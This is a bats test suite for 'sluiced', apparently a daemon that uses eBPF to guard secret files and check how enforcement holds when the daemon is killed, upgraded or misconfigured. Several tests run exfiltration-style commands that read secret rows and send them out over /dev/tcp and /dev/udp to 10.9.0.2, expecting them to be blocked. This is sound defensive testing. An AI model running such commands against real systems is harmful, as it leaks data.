#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
#
# restart.bats: what goes on when sluiced is killed, stopped, replaced, or cannot start. Enforcement is never less than
# before, and nobody stays stopped for good.

bats_require_minimum_version 1.5.0
load lib

HOLD=$ASK
ONCE=$ASK_ONCE

setup() {
	export AGENT=StaleAfter=2s
	ensure_sluiced "$HOLD" || { tail -n 20 "$STATE/sluiced.log"; false; }
	secret rows 'one,two'
	export SLUICED=sluiced
}

teardown() {
	rm -f "$STATE/stop-loop"
	sluice status >/dev/null 2>&1 || run_sluiced || true
	close_all
	[ -n "${BATS_TEST_COMPLETED:-}" ] || tail -n 30 "$STATE/sluiced.log"
}

# The policy asks about reading; without a daemon to ask, reading is refused and what is free stays free.
refused_without_daemon() {
	! as paul cat "$SECRET/rows" >"$BATS_TEST_TMPDIR/read" 2>"$BATS_TEST_TMPDIR/error" &&
		grep -q 'Operation not permitted' "$BATS_TEST_TMPDIR/error" && [ ! -s "$BATS_TEST_TMPDIR/read" ]
}

# The kernel frees them a while after the last reference is gone.
no_programs() {
	[ "$(bpftool prog list | grep -c sluice_file)" = 0 ]
}

# Nobody is held any more when the heartbeat is older than StaleAfter.
wait_stale() {
	sleep 2.5
}

@test "killed: what needs an answer is refused, what is free goes on, and the journal says why" {
	stop_sluiced
	wait_stale
	refused_without_daemon
	plain free hello
	[ "$(as paul cat "$PLAIN/free")" = hello ]
	run_sluiced
	wait_until "$PATIENCE" journal_has '.type == "request.opened" and .fallback == "the agent did not run"'
	# Whoever was refused has ended: nobody is left to be answered, and people are not asked.
	journal_has '.type == "request.closed" and .state == "gone" and (.outcome | contains("did not run"))'
	[ -z "$(sluice requests --ids)" ]
	spawn paul cat "$SECRET/rows" # a new attempt asks anew
	wait_held "$PID"
	approve_pid "$PID"
	exit_of "$PID" 0
}

@test "killed: a deny rule denies on, and the label of a new file holds" {
	set_policy "$SEND"
	stop_sluiced
	run -1 as paul bash -c "read -r row <$SECRET/rows; echo \"\$row\" >/dev/tcp/10.9.0.2/9000"
	[[ $output == *'Operation not permitted'* ]]
	secret later 'three' # below the labeled folder, made while nobody runs
	run -1 as paul bash -c "cat $SECRET/later >/dev/tcp/10.9.0.2/9000"
	as paul bash -c 'echo untainted >/dev/tcp/10.9.0.2/9000'
	wait_until "$PATIENCE" received tcp-9000 untainted
	refute received tcp-9000 three
}

@test "killed: a held process stays held, the next daemon takes it up, an approval lets it go on" {
	local id digest

	spawn paul cat "$SECRET/rows"
	wait_held "$PID"
	id=$(request_for "$PID")
	digest=$(sluice show "$id" --json | jq -r .digest)
	stop_sluiced
	[ "$(state_of "$PID")" = T ]
	run_sluiced
	held "$PID"
	[ "$(request_for "$PID")" = "$id" ]
	[ "$(sluice show "$id" --json | jq -r .digest)" = "$digest" ]
	approve "$id"
	exit_of "$PID" 0
	[ "$(cat "$OUT")" = one,two ]
	journal_has '.type == "agent.start" and .agent.adopted'
}

@test "killed: a held process stays held, the next daemon takes it up, a denial ends it cleanly" {
	spawn paul cat "$SECRET/rows"
	wait_held "$PID"
	stop_sluiced
	run_sluiced
	deny_pid "$PID"
	exit_of "$PID" 1
	grep -q 'Operation not permitted' "$OUT"
}

@test "killed: one of two approvals is remembered, and the same person cannot give the other" {
	local id

	set_policy "$HOLD" Approvals=2
	spawn root setpriv --reuid 4000 --clear-groups cat "$SECRET/rows"
	wait_held "$PID"
	id=$(request_for "$PID")
	approve "$id"
	stop_sluiced
	run_sluiced
	[ "$(request_state "$id")" = pending ]
	refute approve "$id"
	[ "$(state_of "$PID")" = T ]
	REVIEWER=quinn approve "$id"
	exit_of "$PID" 0
}

@test "killed while held: a process that has ended meanwhile leaves no request" {
	local id

	spawn paul cat "$SECRET/rows"
	wait_held "$PID"
	id=$(request_for "$PID")
	stop_sluiced
	kill -KILL "$PID"
	wait_until "$PATIENCE" ended "$PID"
	run_sluiced
	wait_until "$PATIENCE" request_is "$id" gone
}

@test "killed while held: the deadline passes without a daemon and is a denial when it is back" {
	set_policy "$HOLD" Timeout=8s
	spawn paul cat "$SECRET/rows"
	wait_held "$PID"
	stop_sluiced
	wait_stale
	wait_stale
	run_sluiced
	exit_of "$PID" 1
	grep -q 'Operation not permitted' "$OUT"
	journal_has '.type == "request.closed" and .state == "expired"'
}

@test "killed: a grant for the process goes on without a daemon and with the next one" {
	local script="read -r a <$SECRET/rows; echo first; read -r go <$ROOT/go; read -r b <$SECRET/rows; echo \$b"

	new_gate
	spawn paul bash -c "$script; read -r go <$ROOT/go2; read -r b <$SECRET/rows; echo \$b"
	wait_held "$PID"
	approve_pid "$PID"
	wait_until "$PATIENCE" grep -q first "$OUT"
	stop_sluiced
	open_gate
	wait_until "$PATIENCE" grep -q one,two "$OUT"
	run_sluiced
	[ "$(sluice grants --json | jq length)" = 1 ]
	open_gate 2
	exit_of "$PID" 0
	[ "$(grep -c one,two "$OUT")" = 2 ]
}

@test "killed: a grant for once is not doubled by the restart" {
	local script="read -r a <$SECRET/rows; echo first; read -r go <$ROOT/go; read -r b <$SECRET/rows; echo second"

	new_gate
	set_policy "$ONCE"
	spawn paul bash -c "$script"
	wait_held "$PID"
	approve_pid "$PID"
	wait_until "$PATIENCE" grep -q first "$OUT"
	stop_sluiced
	run_sluiced
	open_gate
	wait_held "$PID"
	refute grep -q second "$OUT"
	deny_pid "$PID"
	exit_of "$PID" 0
	grep -q 'Operation not permitted' "$OUT"
}

@test "killed: a revoked grant stays revoked" {
	local script="read -r a <$SECRET/rows; echo first; read -r go <$ROOT/go; read -r b <$SECRET/rows" id

	new_gate
	spawn paul bash -c "$script"
	wait_held "$PID"
	id=$(request_for "$PID")
	approve_pid "$PID"
	wait_until "$PATIENCE" grep -q first "$OUT"
	person rita sluice revoke "$(sluice grants --ids 2>/dev/null || sluice grants --json | jq -r '.[0].id')"
	stop_sluiced
	run_sluiced
	[ "$(sluice grants --json | jq length)" = 0 ]
	sluice show "$id" | grep -q 'revoked by rita'
	open_gate
	wait_held "$PID"
	deny_pid "$PID"
	exit_of "$PID" 1
}

@test "killed: taint of processes and labels of files survive" {
	local holder

	set_policy "[Rule copy]
Action=write
Labels=secret
Verdict=audit" "$SEND"
	new_gate
	as paul bash -c "cat $SECRET/rows >$PLAIN/copy"
	spawn paul bash -c "read -r a <$SECRET/rows; echo ready; read -r go <$ROOT/go; echo out >/dev/tcp/10.9.0.2/9001"
	holder=$PID
	wait_until "$PATIENCE" grep -q ready "$OUT"
	[ "$(labels_of "$PLAIN/copy")" = secret ]
	stop_sluiced
	run_sluiced
	[ "$(labels_of "$PLAIN/copy")" = secret ]
	[ "$(taint_of "$holder")" = secret ]
	open_gate
	exit_of "$holder" 1
	grep -q 'Operation not permitted' "$OUT"
	refute received tcp-9001 out
}

@test "SIGTERM: says that it stopped, enforces on, and starts again from there" {
	stop_sluiced TERM
	wait_stale
	refused_without_daemon
	run_sluiced
	[ "$(sluice journal --json | jq -rs '[.[].type] | index("agent.stop") < (length - 1 - (reverse | index("agent.start")))')" = true ]
	journal_has '.type == "agent.start" and .agent.clean and .agent.adopted'
	spawn paul cat "$SECRET/rows"
	wait_held "$PID"
	approve_pid "$PID"
	exit_of "$PID" 0
}

@test "sluiced --release wakes who is held, with a refusal" {
	spawn paul cat "$SECRET/rows"
	wait_held "$PID"
	stop_sluiced
	run -0 sluiced --release
	[[ $output == *'1 held process'* ]]
	exit_of "$PID" 1
	grep -q 'Operation not permitted' "$OUT"
	refused_without_daemon
	run -0 sluiced --release # again: nobody is left
}

@test "sluiced --detach wakes who is held and ends all enforcement" {
	spawn paul cat "$SECRET/rows"
	wait_held "$PID"
	stop_sluiced
	run -0 sluiced --detach
	[[ $output == *'nothing is enforced'* ]]
	# At once: nobody waits until the kernel gets round to it.
	[ "$(as paul cat "$SECRET/rows")" = one,two ]
	wait_until "$PATIENCE" ended "$PID"
	[ ! -e /sys/fs/bpf/sluice ]
	wait_until "$PATIENCE" no_programs
	run_sluiced
	spawn paul cat "$SECRET/rows"
	wait_held "$PID"
}

@test "sluiced --detach while it runs: the daemon says so" {
	run -0 sluiced --detach
	wait_until "$PATIENCE" not_enforcing
	run -1 sluice status
	[[ $output == *'NOT enforcing'* && $output == *'not attached'* && $output == *'sluiced --detach'* ]]
	journal_has '.type == "enforcement.lost"'
	stop_sluiced TERM
	run_sluiced
	sluice status
}

not_enforcing() {
	[ "$(sluice status --json | jq .enforcing)" = false ]
}

@test "a start that was killed in the middle leaves nothing that --detach does not take away" {
	local link

	link=$(bpftool link list -j | jq -r '[.[] | select(.type == "tracing")][0].id')
	mkdir /sys/fs/bpf/sluice/0123456789abcdef_new
	bpftool link pin id "$link" /sys/fs/bpf/sluice/0123456789abcdef_new/link_rest
	stop_sluiced TERM
	sluiced --detach
	[ -z "$(ls /sys/fs/bpf/sluice)" ]
	run_sluiced
	link=$(bpftool link list -j | jq -r '[.[] | select(.type == "tracing")][0].id')
	mkdir /sys/fs/bpf/sluice/0123456789abcdef
	bpftool link pin id "$link" /sys/fs/bpf/sluice/0123456789abcdef/link_rest
	stop_sluiced
	run_sluiced # of an upgrade that was killed: ours are whole, the others go
	[ "$(find /sys/fs/bpf/sluice -mindepth 1 -maxdepth 1 | wc -l)" = 1 ]
}

@test "a second sluiced is refused and the first goes on" {
	local pid

	pid=$(sluiced_pid)
	run -1 sluiced --control "$BATS_TEST_TMPDIR/c" --gateway "$BATS_TEST_TMPDIR/g"
	[[ $output == *'another'* || $output == *'already'* ]]
	mkdir -p "$BATS_TEST_TMPDIR/etc"
	printf '[Agent]\nJournal=%s/journal\nState=%s/state\n' "$BATS_TEST_TMPDIR" "$BATS_TEST_TMPDIR" \
		>"$BATS_TEST_TMPDIR/etc/sluice.conf"
	run -1 sluiced -c "$BATS_TEST_TMPDIR/etc/sluice.conf" --control "$BATS_TEST_TMPDIR/c" --gateway "$BATS_TEST_TMPDIR/g"
	[[ $output == *'another sluiced is running'* ]]
	kill -0 "$pid"
	spawn paul cat "$SECRET/rows"
	wait_held "$PID"
	approve_pid "$PID"
	exit_of "$PID" 0
}

# Another build: the same program with another byte in a source line that its BPF object carries for debugging.
other_build() {
	python3 - "$BUILD/sluiced" "$BATS_TEST_TMPDIR/sluiced" <<-'PYTHON'
	import re, sys
	data = open(sys.argv[1], "rb").read()
	other, n = re.subn(rb"\x00\treturn ", b"\x00 return ", data, count=1)
	assert n == 1
	open(sys.argv[2], "wb").write(other)
	PYTHON
	chmod 755 "$BATS_TEST_TMPDIR/sluiced"
}

@test "another build takes over without a gap, and keeps who is held" {
	local id loop old new

	other_build
	new_gate
	export AGENT=StaleAfter=30s # the loop keeps an emulated processor busy
	set_policy "$SEND" "$HOLD
Clear=unit:reader.slice"
	mkdir -p /sys/fs/cgroup/reader.slice
	wait_until "$PATIENCE" cleared_reader
	: >"$STATE/stop-loop"
	# Tainted, and tries to send all the time: no try may ever succeed.
	UNIT=/sys/fs/cgroup/reader.slice spawn paul bash -c "read -r a <$SECRET/rows
		while [ -e $STATE/stop-loop ]; do
			if echo gap >/dev/udp/10.9.0.2/9001; then echo SENT; else echo no; fi
			read -r -t 0.2 <>$ROOT/go
		done 2>/dev/null; exit 0"
	loop=$PID loop_out=$OUT
	wait_until "$PATIENCE" grep -q no "$loop_out"
	spawn paul cat "$SECRET/rows"
	wait_held "$PID"
	id=$(request_for "$PID")
	old=$(ls /sys/fs/bpf/sluice)
	stop_sluiced
	SLUICED=$BATS_TEST_TMPDIR/sluiced run_sluiced
	new=$(ls /sys/fs/bpf/sluice)
	[ "$old" != "$new" ]
	[ "$(wc -w <<<"$new")" = 1 ]
	[ "$(request_for "$PID")" = "$id" ]
	approve "$id"
	exit_of "$PID" 0
	tries=$(wc -l <"$loop_out")
	wait_until "$PATIENCE" more_lines "$loop_out" "$tries"
	rm "$STATE/stop-loop"
	exit_of "$loop" 0
	refute grep SENT "$loop_out"
	refute received udp-9001 gap
	stop_sluiced TERM
	run_sluiced # and back
	[ "$(ls /sys/fs/bpf/sluice)" = "$old" ]
}

more_lines() {
	[ "$(wc -l <"$1")" -gt "$2" ]
}

cleared_reader() {
	UNIT=/sys/fs/cgroup/reader.slice as paul timeout -s KILL 5 cat "$SECRET/rows"
}

@test "damaged pins: refuses to start and names the remedy, which works" {
	stop_sluiced TERM
	wait_stale
	rm /sys/fs/bpf/sluice/*/link_sluice_file_open
	run -1 sluiced
	[[ $output == *'still pinned'* && $output == *'sluiced --detach'* ]]
	refused_without_daemon # what opens, still cannot read: the other hooks guard on
	sluiced --detach
	run_sluiced
	spawn paul cat "$SECRET/rows"
	wait_held "$PID"
}

@test "damaged pins: --detach wakes who is held even so" {
	spawn paul cat "$SECRET/rows"
	wait_held "$PID"
	stop_sluiced
	rm /sys/fs/bpf/sluice/*/link_sluice_capset
	sluiced --detach
	wait_until "$PATIENCE" ended "$PID"
	run_sluiced
}

@test "a bad policy at the start: one error with file and line, what was in force stays in force" {
	stop_sluiced TERM
	printf '[Rule more]\nVerdict=maybe\n' >>/etc/sluice/policy.d/50-test.conf
	run -1 sluiced
	[[ $output == *'50-test.conf:'*maybe* ]]
	write_policy "$HOLD"
	wait_stale
	refused_without_daemon
	plain free hello
	[ "$(as paul cat "$PLAIN/free")" = hello ]
}

@test "a bad policy at the very first start: nothing is left in the kernel" {
	stop_sluiced TERM
	sluiced --detach
	printf '[Label more]\nPath=/nowhere/at/all\n' >/etc/sluice/policy.d/60-more.conf
	run -1 sluiced
	[[ $output == *"60-more.conf:2: cannot label '/nowhere/at/all'"*'No such file'* ]]
	rm /etc/sluice/policy.d/60-more.conf
	[ -z "$(ls /sys/fs/bpf/sluice 2>/dev/null)" ]
	wait_until "$PATIENCE" no_programs
	run_sluiced
}

@test "a label path that is gone at a restart: one error with file and line, what was in force stays in force" {
	mkdir -p "$ROOT/extra"
	echo extra >"$ROOT/extra/rows"
	chmod -R a+rX "$ROOT/extra"
	set_policy "$HOLD" "[Label extra]
Path=$ROOT/extra
[Rule read-extra]
Action=open
Labels=extra
Verdict=deny"
	stop_sluiced TERM
	mv "$ROOT/extra" "$ROOT/moved"
	run -1 sluiced
	[[ $output == *"50-test.conf:"*"cannot label '$ROOT/extra'"* ]]
	wait_stale
	refused_without_daemon
	run -1 as paul cat "$ROOT/moved/rows" # the label is on the folder, not on its name
	[[ $output == *'Operation not permitted'* ]]
	mv "$ROOT/moved" "$ROOT/extra"
	run_sluiced
	run -1 as paul cat "$ROOT/extra/rows"
	set_policy "$HOLD"
	[ "$(as paul cat "$ROOT/extra/rows")" = extra ]
	rm -r "$ROOT/extra"
}

@test "a journal without its key: one error that says so, and nothing is changed" {
	stop_sluiced TERM
	mv /var/lib/sluice/journal.key "$STATE/key"
	run -1 sluiced
	[[ $output == *key* ]]
	[ ! -e /var/lib/sluice/journal.key ]
	wait_stale
	refused_without_daemon
	mv "$STATE/key" /var/lib/sluice/journal.key
	run_sluiced
	sluice journal verify || lost_a_key
}

@test "a key that others can read is refused" {
	stop_sluiced TERM
	chmod 644 /var/lib/sluice/journal.key
	run -1 sluiced
	[[ $output == *journal.key* ]]
	chmod 600 /var/lib/sluice/journal.key
	run_sluiced
}

@test "the file of label numbers is damaged: refused with the remedy" {
	stop_sluiced TERM
	cp /var/lib/sluice/labels "$STATE/labels"
	echo 'what is this' >>/var/lib/sluice/labels
	run -1 sluiced
	[[ $output == *'/labels: '*backup* ]]
	cp "$STATE/labels" /var/lib/sluice/labels
	run_sluiced
}
